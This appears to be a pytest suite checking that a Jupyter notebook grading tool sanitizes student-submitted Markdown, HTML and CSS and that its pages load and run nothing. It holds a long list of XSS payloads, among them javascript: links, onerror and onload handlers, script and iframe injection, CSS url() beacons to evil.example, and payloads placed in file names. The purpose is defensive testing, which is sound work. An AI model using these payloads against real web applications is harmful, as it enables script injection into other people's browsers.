"""Formgrader in Chromium; hostile Markdown and HTML there and in pages ask for and run nothing."""

import contextlib
import json
import re
import urllib.request

import nbformat
import pytest
from browser import chromium, view_of
from formgrader import TOKEN, instructors_environment, jupyter_server, press
from nbformat.v4 import new_code_cell, new_markdown_cell
from nbgrader.api import Gradebook
from scratch import NAME, RIGHT, configure, hand_in, nbgrader, question, write_source

from grading.cli import app
from grading.marking.sanitize import clean_html, clean_markdown, clean_style

NOTEBOOK = f"{NAME}.ipynb"
EVIL = "http://evil.example"
RUN = "window.ran=1"
TEXTS = [
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x]( javascript:{RUN} 'title')",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    f"[a][1]\n\n[1]: javascript:{RUN}",
    f"[b]\n\n[b]:\n  javascript:{RUN}",
    f"[c\\]]\n\n[c\\]]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![p]({EVIL}/p.png)",
    f"![p [q]({EVIL}/q.png)]({EVIL}/p.png)",
    f"![r]\n\n[r]: {EVIL}/r.png",
    "![gone](attachment:gone.png)",
    f"{EVIL}/bare and www.evil.example and <{EVIL}/auto>",
    f"<img src={EVIL}/i.png onerror={RUN}>",
    f"&lt;img src={EVIL}/e.png onerror={RUN}&gt;",
    f"<svg onload={RUN}><image href={EVIL}/s.png /></svg>",
    f"<math><maction actiontype=statusline href=javascript:{RUN}>m</maction></math>",
    f"<script>{RUN}</script>\n\n<script src={EVIL}/s.js></script>",
    f"<iframe src='javascript:parent.{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'>",
    f"<form action={EVIL}/f><button>Full credit</button></form>",
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}/m'>",
    f"<link rel=stylesheet href={EVIL}/l.css><style>@import '{EVIL}/i.css';</style>",
    f"<p style='background:url({EVIL}/b.png);cursor:url({EVIL}/c.cur),auto'>styled</p>",
    f"<ul style='list-style:url({EVIL}/l.png)'><li>x</li></ul>",
    f"```mermaid\n<img src={EVIL}/m.png onerror={RUN}>\n```",
    f"~~~ &#109;ermaid\n<img src={EVIL}/m.png onerror={RUN}>\n~~~",
    f"```\n</pre><img src={EVIL}/f.png onerror={RUN}>\n```",
    f"$\\href{{javascript:{RUN}}}{{x}} \\style{{background:url({EVIL}/t.png)}}{{y}}$",
    f"$$x <img src={EVIL}/d.png onerror={RUN}>$$",
    f"\\begin{{align}}</math><img src={EVIL}/a.png onerror={RUN}>\\end{{align}}",
    f"# <img src={EVIL}/h.png onerror={RUN}> [x](javascript:{RUN})",
    "# test_rnn_forward\n\n# statusmessage\n\n# notebook-container",
    f"<div data-link=\"x' onclick='{RUN}\" class=save-icon>x</div>",
    f"<!--><img src={EVIL}/c.png onerror={RUN}>-->",
    f"| a |\n|---|\n| [x](javascript:{RUN}) ![y]({EVIL}/t.png) |",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video src={EVIL}/v.mp4><source onerror={RUN}></video><object data={EVIL}/o></object>",
    f"<a href='javascript:{RUN}' ping={EVIL}/ping>x</a><area href=javascript:{RUN}>",
]


def is_marked_up(html):
    """Tell whether HTML holds anything that loads, links or runs."""
    return re.search(r"<[^>]*(?:\bon\w+=|\bsrc=|href=(?!\"#)|url\(|script|style=\"[^\"]*\\)", html)


@pytest.mark.parametrize("text", TEXTS)
def test_nothing_in_html_loads_or_runs(text):
    assert not is_marked_up(clean_html(text))
    assert clean_markdown(clean_markdown(text)) == clean_markdown(text)


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; text-align:right", "color: red; text-align: right"),
        ("color: var(--jp-error-color1, #b71c1c)", "color: var(--jp-error-color1, #b71c1c)"),
        ("color: var(--x, url(//evil.example))", ""),
        ("background-color: u\\72l(//evil.example)", ""),
        ("margin: -500px; padding: 0 -9px", ""),
        ("position: fixed; top: 0; display: block", ""),
        ("color: red /* ; */; behavior: url(x)", ""),
        ("color:" + "a" * 10**6, ""),
    ],
)
def test_a_style_changes_only_how_a_text_looks(style, kept):
    assert clean_style(style) == kept


def test_what_is_honest_stays():
    text = "If $a < b$ and `x[0]`, then *so*:\n\n- [1, 2] (see above)\n\n| a | b |\n|---|---|\n"
    assert clean_markdown(text) == text
    table = '<table><tbody><tr><td style="color: red">1</td></tr></tbody></table>'
    assert clean_html(table) == table


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Mark an honest and a hostile notebook of one small question."""
    root = tmp_path_factory.mktemp("harmless") / "rnn"
    write_source(root / "source" / NAME, question())
    configure(root, "")
    assert "exit" not in nbgrader(root, "generate_assignment", NAME)
    released, submitted = root / "release" / NAME, root / "submitted"
    hand_in(released, submitted / "honest" / NAME, RIGHT)
    hand_in(released, submitted / "hostile" / NAME, RIGHT)
    hostile = nbformat.read(submitted / "hostile" / NAME / NOTEBOOK, as_version=4)
    show = f"for text in {TEXTS!r}:\n    display(HTML(text))"
    show = f"from IPython.display import HTML, display\n{show}"
    hostile.cells[2:2] = [new_code_cell(show), *map(new_markdown_cell, TEXTS)]
    nbformat.write(hostile, submitted / "hostile" / NAME / NOTEBOOK)
    (submitted / "hostile" / NAME / f"[x](javascript:{RUN}).ipynb").write_text("{")
    (submitted / "hostile" / NAME / f"<img src=x onerror={RUN}>").write_text("")
    broken = submitted / "broken" / NAME
    broken.mkdir(parents=True)
    (broken / f"[x](javascript:{RUN})<img src=x onerror={RUN}>.ipynb").write_text("{")
    run(root, "grade", NAME)
    return root


def run(root, *command):
    """Run a command of ours in the course."""
    with contextlib.chdir(root):
        app([*command], standalone_mode=False)


def read_marks(root):
    """Return the points of each student."""
    with Gradebook(f"sqlite:///{root}/gradebook.db", "rnn") as book:
        return {each.student.id: each.score for each in book.assignment_submissions(NAME)}


@pytest.fixture(scope="module")
def server(course):
    """Start a Jupyter server in the course; return its address."""
    with jupyter_server(course, instructors_environment(course.parent)) as address:
        yield address


def held_at(server, student):
    """Return the address of a student's notebook in formgrader."""
    root = f"{server}/formgrader"
    table = f"{root}/api/submitted_notebooks/{NAME}/{NAME}?token={TOKEN}"
    with urllib.request.urlopen(table) as answer:
        ids = {each["student"]: each["id"] for each in json.load(answer)}
    return f"{root}/submissions/{ids[student]}/?token={TOKEN}"


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


def look(browser, where):
    """Open a page, click what a student may have put there; return requests, and what ran."""
    view = view_of(browser, where)
    page = view.page
    for link in page.query_selector_all("#notebook a, .notebook a"):
        address = link.get_attribute("href") or ""
        if not address.startswith("#"):
            link.evaluate("link => link.click()")
    for button in page.query_selector_all(".output button, .rendered_html button"):
        button.evaluate("button => button.click()")
    ran = page.evaluate("window.ran")
    shown, url = page.inner_text("body"), page.url
    page.close()
    asked = {re.sub(r"[0-9a-f]{32}|\?.*", "", each) for each in view.requests}
    return asked, ran, shown, url


def test_formgrader_asks_for_nothing_and_runs_nothing(browser, course, server):
    before = read_marks(course)
    honest, *_ = look(browser, held_at(server, "honest"))
    for student in ("hostile", "broken"):
        address = held_at(server, student)
        asked, ran, shown, url = look(browser, address)
        assert asked <= honest
        assert ran is None
        assert url.partition("?")[0] == address.partition("?")[0]
        assert "Submission" in shown
    assert read_marks(course) == before


@pytest.mark.parametrize("student", ["hostile", "broken"])
def test_a_page_asks_for_nothing_and_runs_nothing(browser, course, student):
    page = course / "feedback" / student / NAME / f"{NAME}.html"
    asked, ran, _, url = look(browser, page)
    assert (asked, ran, url) == (set(), None, page.resolve().as_uri())


def test_all_that_is_written_has_a_policy(browser, course):
    run(course, "report", NAME)
    pages = [*(course / "feedback").rglob("*.html"), *course.glob("reports/*/*.html")]
    assert len(pages) == 4
    for page in pages:
        assert "content=\"default-src 'none';" in page.read_text("utf-8")
    asked, ran, *_ = look(browser, pages[-1])
    assert (asked, ran) == (set(), None)


# ---------------------------------- one server, from the first click to the last

OTHER = "ps2"


def write_other(course, factor):
    """Write the source of another assignment, whose solution multiplies by a factor."""
    cells = question()
    (solution,) = (each for each in cells if each.id == "double")
    solution.source = solution.source.replace("2 * x", f"{factor} * x")
    write_source(course / "source" / OTHER, cells)


def points(course):
    """Return the points of its graded cells."""
    with Gradebook(f"sqlite:///{course}/gradebook.db", "rnn") as book:
        held = book.find_submission_notebook(OTHER, OTHER, "solution")
        return [grade.score for grade in held.grades]


def test_a_corrected_solution_judges_the_next_marking(browser, course, server):
    view = view_of(browser, "about:blank")
    for factor, earned in [(3, 0.0), (2, 10.0)]:
        write_other(course, factor)
        said = press(view, server, "manage_assignments", OTHER, "assign")
        assert "Successfully created the student version" in said
        if factor == 3:
            hand_in(course / "release" / OTHER, course / "submitted" / "solution" / OTHER, RIGHT)
        said = press(view, server, f"manage_submissions/{OTHER}", "solution", "autograde")
        assert "Successfully autograded" in said
        assert points(course) == [earned]
    view.page.close()
